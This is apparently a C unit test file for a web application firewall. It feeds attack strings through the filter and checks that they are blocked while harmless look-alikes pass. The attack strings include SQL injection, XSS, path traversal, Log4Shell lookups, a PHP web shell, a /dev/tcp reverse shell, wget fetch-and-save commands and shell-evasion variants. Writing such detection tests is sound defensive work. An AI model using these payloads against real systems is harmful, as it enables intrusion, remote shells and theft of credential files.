// SPDX-License-Identifier: GPL-2.0 OR BSD-2-Clause
/* user/guard/waf.c: per-class rules (attacks fire, near misses stay quiet),
 * request walking, custom rules. The corpus rates are in waf/corpus_test.c. */
#include <criterion/criterion.h>
#include <errno.h>
#include <string.h>

#include "config/http_cfg.h"
#include "http/http_decode.h"
#include "guard/waf.h"
#include "guard/waf_cfg.h"

#include "waf/corpus_test.c"

static struct waf *W;
static struct waf_scratch *S;

static void setup(void)
{
	char err[256] = "";

	W = waf_new();
	cr_assert_not_null(W);
	cr_assert_eq(waf_compile(W, err, sizeof(err)), 0, "%s", err);
	S = waf_scratch_new(W);
	cr_assert_not_null(S);
}

static void teardown(void)
{
	waf_scratch_free(S);
	waf_free(W);
}

/* Score of a GET with the string as the value of query argument q. */
static int score_query(const char *raw)
{
	struct waf_request r = { 0 };
	struct waf_result res;
	char q[4096];

	snprintf(q, sizeof(q), "q=%s", raw);
	r.method = "GET", r.method_len = 3;
	r.path = "/search", r.path_len = 7;
	r.query = q, r.query_len = strlen(q);
	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	return res.total;
}

static void expect_block(const char *const *v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		cr_expect_geq(score_query(v[i]), WAF_THRESHOLD_DEFAULT, "missed: %s", v[i]);
}

static void expect_pass(const char *const *v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		cr_expect_lt(score_query(v[i]), WAF_THRESHOLD_DEFAULT, "blocked: %s", v[i]);
}

#define N(a) (sizeof(a) / sizeof(a[0]))

TestSuite(waf, .init = setup, .fini = teardown);

Test(waf, sqli)
{
	static const char *const bad[] = {
		"x' OR 'a'='a", "5 or 2>1", "abc%27%20union%20all%20select%20null,pass%20from%20users",
		"u'/**/or/**/7=7--", "admin'--", "1;drop table accounts", "1 AND sleep(5)='1",
		"x'||pg_sleep(3)||'", "1 union/**/select 1,2", "' and extractvalue(1,concat(0x7e,user()))--",
		"1 order by 9--", "'; exec xp_cmdshell 'dir'--",
	};
	static const char *const good[] = {
		"O'Reilly", "rock 'n' roll", "don't stop", "select a size from the list",
		"tom and jerry", "1 or 2 items", "it's 5 o'clock", "the union station",
		"\"best\" or \"worst\"", "drop shipping", "where is my order",
	};
	expect_block(bad, N(bad));
	expect_pass(good, N(good));
}

Test(waf, xss)
{
	static const char *const bad[] = {
		"<script>x()</script>", "<img src=x onerror=go(1)>", "\"><svg/onload=go()>",
		"<a href=\"javascript:go(1)\">x</a>", "%3Ciframe%20src%3D%2F%2Fevil%3E",
		"%26lt;script%26gt;run()%26lt;/script%26gt;", "\" onmouseover=\"go()", "<body onload=go()>",
		"<div style=\"width:expression(go())\">",
	};
	static const char *const good[] = {
		"<p>Hello <b>world</b></p>", "<a href=\"https://example.com/a\">link</a>",
		"a < b and c > d", "I love javascript books", "<img src=\"/uploads/cat.jpg\" alt=\"cat\">",
		"on=1", "confirmation number", "<em>docs</em>", "javascript: the good parts",
	};
	expect_block(bad, N(bad));
	expect_pass(good, N(good));
}

Test(waf, rce)
{
	static const char *const bad[] = {
		"127.0.0.1; cat /etc/passwd", "x|id", "$(whoami)", "`uname -a`", "a %26%26 wget http://h/x -O /tmp/x",
		"a;ls -la /", "x\nping -c 3 10.0.0.1", "a;bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
		"cmd.exe /c dir", "a;/bin/c?t /e?\?/p?sswd",
	};
	static const char *const good[] = {
		"Ben & Jerry's", "cats; dogs", "salt & pepper", "find a store near me",
		"tom; more info later", "rock|pop|jazz", "price: $(5) off", "who am i",
	};
	expect_block(bad, N(bad));
	expect_pass(good, N(good));
}

Test(waf, lfi_rfi_php_java)
{
	static const char *const bad[] = {
		"../../../etc/passwd", "..%2f..%2f..%2fwin.ini", "%252e%252e%252f%252e%252e%252fetc%252fshadow",
		"..%c0%af..%c0%afboot.ini", "php://filter/convert.base64-encode/resource=index",
		"file:///etc/hosts", "http://10.1.2.3/shell.txt?", "https://evil.example/x.txt??",
		"<?php system($_GET['c']); ?>", "${jndi:ldap://x.example/a}", "${${lower:j}ndi:dns://h/a}",
		"O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "class.module.classLoader.URLs[0]=x",
	};
	static const char *const good[] = {
		"../images/logo.png", "https://www.example.com/page", "file.txt", "my.php.notes",
		"${price}", "{\"a\":1}", "/home/user/docs",
	};
	expect_block(bad, N(bad));
	expect_pass(good, N(good));
}

static int score_headers(const struct waf_header *h, size_t n)
{
	struct waf_request r = { .method = "GET", .method_len = 3, .path = "/", .path_len = 1,
				 .headers = h, .n_headers = n };
	struct waf_result res;

	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	return res.total;
}

#define HDR(n, v) { n, v, sizeof(n) - 1, sizeof(v) - 1 }

Test(waf, scanners_and_headers)
{
	struct waf_header sqlmap[] = { HDR("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)") };
	struct waf_header nikto[] = { HDR("User-Agent", "Mozilla/5.00 (Nikto/2.1.6)") };
	struct waf_header log4j[] = { HDR("Accept", "${jndi:ldap://a.example/x}") };
	struct waf_header shock[] = { HDR("Referer", "() { :;}; /bin/cat /etc/passwd") };
	struct waf_header cookie[] = { HDR("Cookie", "sid=abc; pref=1'%20or%20'1'='1") };
	struct waf_header browser[] = {
		HDR("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"),
		HDR("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
		HDR("Accept-Language", "en-US,en;q=0.5"), HDR("Cookie", "sid=3f9a; theme=dark; cart=1%2C2%2C3"),
		HDR("Referer", "https://shop.example/search?q=o%27reilly"),
	};
	struct waf_header curl[] = { HDR("User-Agent", "curl/7.88.1") };

	cr_expect_geq(score_headers(sqlmap, 1), WAF_THRESHOLD_DEFAULT);
	cr_expect_geq(score_headers(nikto, 1), WAF_THRESHOLD_DEFAULT);
	cr_expect_geq(score_headers(log4j, 1), WAF_THRESHOLD_DEFAULT);
	cr_expect_geq(score_headers(shock, 1), WAF_THRESHOLD_DEFAULT);
	cr_expect_geq(score_headers(cookie, 1), WAF_THRESHOLD_DEFAULT);
	cr_expect_lt(score_headers(browser, N(browser)), WAF_THRESHOLD_DEFAULT);
	cr_expect_lt(score_headers(curl, 1), WAF_THRESHOLD_DEFAULT);
}

Test(waf, paths_and_bodies)
{
	struct waf_header form[] = { HDR("Content-Type", "application/x-www-form-urlencoded") };
	struct waf_header json[] = { HDR("Content-Type", "application/json") };
	struct waf_request r = { .method = "POST", .method_len = 4, .path = "/", .path_len = 1 };
	struct waf_result res;

	r.path = "/static/..%2f..%2f..%2fetc/passwd", r.path_len = strlen(r.path);
	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	cr_expect_geq(res.total, WAF_THRESHOLD_DEFAULT);
	cr_expect_eq(res.hits[0].target, WAF_T_PATH);

	r.path = "/wp-login.php", r.path_len = strlen(r.path);
	r.headers = form, r.n_headers = 1;
	r.content_type = form[0].value, r.content_type_len = form[0].value_len;
	r.body = "log=admin&pwd=hunter2&rememberme=forever", r.body_len = strlen(r.body);
	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	cr_expect_eq(res.total, 0);
	r.body = "log=admin%27+or+%271%27%3D%271&pwd=x", r.body_len = strlen(r.body);
	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	cr_expect_geq(res.total, WAF_THRESHOLD_DEFAULT);
	cr_expect_eq(res.hits[0].target, WAF_T_BODY_VAL);

	r.path = "/api/v1/comments", r.path_len = strlen(r.path);
	r.headers = json, r.content_type = json[0].value, r.content_type_len = json[0].value_len;
	r.body = "{\"author\":\"Ann O'Neil\",\"text\":\"Great <b>post</b>, thanks!\",\"tags\":[\"a\",\"b\"]}";
	r.body_len = strlen(r.body);
	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	cr_expect_lt(res.total, WAF_THRESHOLD_DEFAULT);
	r.body = "{\"text\":\"\\u003cscript\\u003ego()\\u003c/script\\u003e\"}", r.body_len = strlen(r.body);
	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	cr_expect_geq(res.total, WAF_THRESHOLD_DEFAULT);
	/* truncated JSON must not crash and still be scanned */
	r.body = "{\"q\":\"1 union select pass", r.body_len = strlen(r.body);
	cr_assert_eq(waf_inspect(W, S, &r, &res), 0);
	cr_expect_geq(res.total, WAF_THRESHOLD_DEFAULT);
}

Test(waf, rule_counts_once_per_request)
{
	cr_expect_eq(score_query("a'--&q2=b'--&q3=c'--"), score_query("a'--"));
}

Test(waf, custom_rules)
{
	char err[256] = "";
	struct waf *w = waf_new();
	struct waf_scratch *s;
	struct waf_result res;
	long id1, id2;

	id1 = waf_rule_add(w, 0, "internal-debug", WAF_T_PATH, 0, WAF_RULE_LITERAL | WAF_RULE_BLOCK,
			   "debug endpoint", err, sizeof(err));
	cr_assert_eq(id1, WAF_CUSTOM_ID_MIN, "%s", err);
	id2 = waf_rule_add(w, 0, "^evil(bot|crawler)", WAF_T_UA, 3, 0, NULL, err, sizeof(err));
	cr_assert_eq(id2, WAF_CUSTOM_ID_MIN + 1, "%s", err);
	cr_expect_eq(waf_rule_add(w, 1001, "x", WAF_T_PATH, 1, 0, NULL, err, sizeof(err)), -EEXIST);
	cr_expect_eq(waf_rule_add(w, 0, "(unclosed", WAF_T_PATH, 1, 0, NULL, err, sizeof(err)), -EINVAL);
	cr_expect(strstr(err, "bad pattern") != NULL, "%s", err);
	cr_expect_eq(waf_rule_add(w, 0, "x", 0, 1, 0, NULL, err, sizeof(err)), -EINVAL);
	cr_expect_eq(waf_rule_add(w, 0, "x", WAF_T_PATH, 0, 0, NULL, err, sizeof(err)), -EINVAL);
	cr_assert_eq(waf_compile(w, err, sizeof(err)), 0, "%s", err);
	cr_expect_eq(waf_rule_add(w, 0, "y", WAF_T_PATH, 1, 0, NULL, err, sizeof(err)), -EBUSY);
	s = waf_scratch_new(w);
	cr_assert_not_null(s);
	cr_assert_eq(waf_scan_field(w, s, WAF_T_PATH, "/x/Internal-Debug/y", 19, &res), 0);
	cr_expect_eq(res.total, WAF_SCORE_BLOCK);
	cr_expect_eq(res.hits[0].id, (uint32_t)id1);
	cr_expect_eq(res.hits[0].cls, WAF_CUSTOM);
	/* a literal is not a regex */
	cr_assert_eq(waf_scan_field(w, s, WAF_T_PATH, "internal_debug", 14, &res), 0);
	cr_expect_eq(res.total, 0);
	/* target mask respected */
	cr_assert_eq(waf_scan_field(w, s, WAF_T_QUERY_VAL, "internal-debug", 14, &res), 0);
	cr_expect_eq(res.total, 0);
	cr_assert_eq(waf_scan_field(w, s, WAF_T_UA, "EvilBot/1.0", 11, &res), 0);
	cr_expect_eq(res.total, 3);
	cr_expect_not_null(waf_rule_find(w, 1001));
	cr_expect_str_eq(waf_class_name(waf_rule_find(w, 2001)->cls), "xss");
	waf_scratch_free(s);
	waf_free(w);
}

Test(waf, builtin_ids_unique_and_described)
{
	for (size_t i = 0; i < waf_rule_count(W); i++) {
		const struct waf_rule_info *r = waf_rule_get(W, i);

		cr_expect(r->score > 0 && r->score <= 5 && r->desc && *r->desc, "rule %u", r->id);
		if (i)
			cr_expect_gt(r->id, waf_rule_get(W, i - 1)->id, "duplicate id %u", r->id);
	}
}

/* waf_build: config rules land in the live database; a bad one is named. */
Test(waf, build_from_config)
{
	struct http_waf_rule_cfg rules[2] = {
		{ .id = 100007, .pattern = "letmein", .targets = WAF_T_QUERY_VAL, .score = 5,
		  .flags = WAF_RULE_LITERAL, .desc = "magic word", .line = 12 },
		{ .id = 0, .pattern = "^Bad", .targets = WAF_T_UA, .score = 2, .line = 14 },
	};
	struct http_cfg h = { .waf = { .threshold = 5, .rules = rules, .n_rules = 2 } };
	struct waf *w = NULL;
	struct waf_scratch *s;
	struct waf_result res;
	char err[256] = "";

	cr_assert_eq(waf_build(&h, &w, err, sizeof(err)), 0, "%s", err);
	cr_assert_not_null(waf_rule_find(w, 100007));
	cr_expect_str_eq(waf_rule_find(w, 100007)->desc, "magic word");
	cr_expect_not_null(waf_rule_find(w, 100008));
	cr_expect_not_null(waf_rule_find(w, 1001), "built-ins missing");
	s = waf_scratch_new(w);
	cr_assert_not_null(s);
	cr_assert_eq(waf_scan_field(w, s, WAF_T_QUERY_VAL, "x LetMeIn y", 11, &res), 0);
	cr_expect_eq(res.total, 5);
	waf_scratch_free(s);
	waf_free(w);

	snprintf(rules[1].pattern, sizeof(rules[1].pattern), "(unclosed");
	cr_expect_eq(waf_build(&h, &w, err, sizeof(err)), -EINVAL);
	cr_expect_null(w);
	cr_expect(strstr(err, "#2") && strstr(err, "line 14") && strstr(err, "bad pattern"), "%s", err);
	rules[0].id = 1001; /* a built-in's id */
	cr_expect_eq(waf_build(&h, &w, err, sizeof(err)), -EINVAL);
	cr_expect(strstr(err, "rule 1001") && strstr(err, "line 12"), "%s", err);
	cr_expect_eq(waf_build(NULL, &w, err, sizeof(err)), 0, "built-ins alone: %s", err);
	waf_free(w);
}

/* The evasion-free reading: quoting, escapes and comments gone, prose kept. */
Test(waf, deobfuscate)
{
	static const struct { const char *in, *out; } v[] = {
		{ "c'a't /etc/passwd", "cat /etc/passwd" }, { "w\"h\"oami", "whoami" },
		{ "c\\at x", "cat x" }, { "ca$@t", "cat" }, { "who$*ami", "whoami" },
		{ "cat${IFS}/etc/passwd", "cat /etc/passwd" }, { "cat$IFS/x", "cat /x" },
		{ "w^h^o^a^m^i", "whoami" }, { "pi``ng", "ping" }, { "c${x}url", "curl" },
		{ "1/**/or/**/1=1", "1 or 1=1" }, { "/*!50000union*/ select", "union select" },
		{ "x\xe2\x80\x99 or", "x' or" }, { "a  \t b", "a b" },
	};
	static const char *const same[] = { "I'd like size 43", "plain text", "don't", "" };
	char out[256];
	size_t n;

	for (size_t i = 0; i < N(v); i++) {
		n = hd_deobfuscate(v[i].in, strlen(v[i].in), out, sizeof(out));
		cr_expect(n == strlen(v[i].out) && !memcmp(out, v[i].out, n), "%s -> %.*s",
			  v[i].in, (int)n, out);
	}
	for (size_t i = 0; i < N(same); i++)
		cr_expect_eq(hd_deobfuscate(same[i], strlen(same[i]), out, sizeof(out)), 0, "%s", same[i]);
	/* an unterminated comment or escape at the end stays in bounds */
	cr_expect_eq(hd_deobfuscate("a/*", 3, out, sizeof(out)), 2);
	cr_expect_eq(hd_deobfuscate("a\\", 2, out, sizeof(out)), 0);
}
